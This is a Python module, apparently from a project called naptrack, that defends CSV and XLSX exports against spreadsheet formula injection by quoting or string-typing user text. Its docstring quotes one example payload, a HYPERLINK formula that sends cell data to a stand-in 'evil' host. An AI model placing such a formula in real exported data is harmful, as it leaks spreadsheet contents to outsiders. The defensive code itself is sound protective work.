"""User text written into spreadsheets as text, never as a formula (OWASP, "CSV Injection").

Every CSV and XLSX naptrack writes (open data, plan exports, department workbooks, the audit
trail) goes through these helpers, because a narrative such as `=HYPERLINK("http://evil/?"&A1)`
would otherwise run in the reader's spreadsheet program.

- **CSV** has no types: a program opening it runs a cell that begins with `=`, `+`, `-`, `@`, a
  tab or a carriage return. Such a text gets a single quote in front, as OWASP recommends; the
  spreadsheet shows the text, the quote tells a script reading the file that it was added.
  Numbers that naptrack writes as numbers (a count, a value of -3) are data, not text: they are
  written as they are, since `-3` is the number the file means and runs nothing.
- **XLSX** has types: a text is written as a string cell (data type "s"), which no spreadsheet
  program evaluates, whatever it begins with. No quote is added, so that a workbook read back
  (department workbooks, plan matrices) gives exactly the text that was written. openpyxl makes
  any str beginning with "=" a formula cell; `xlsx_text` and `xlsx_append` undo that.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet.worksheet import Worksheet

# A spreadsheet program runs a CSV cell that begins with one of these as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value: Any) -> Any:
    """A CSV cell's value: text beginning with a formula character gets a quote in front; every
    other value (numbers included) is returned as it is, for csv.writer to write."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return f"'{value}"
    return value


def csv_text(value: Any) -> str:
    """Any value as the text of a CSV cell, neutralised (None is empty)."""
    return csv_safe("" if value is None else str(value))


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_safe(value) for value in values]


def xlsx_text(cell: Cell, value: Any) -> None:
    """Set a cell's value; a text is a string cell, never a formula."""
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"


def xlsx_append(ws: Worksheet, values: Iterable[Any]) -> None:
    """Worksheet.append, with every text written as a string cell."""
    values = list(values)
    ws.append(values)
    # append puts a non-empty row at max_row; an empty one holds no text.
    for column, value in enumerate(values, start=1):
        if isinstance(value, str):
            ws.cell(ws.max_row, column).data_type = "s"
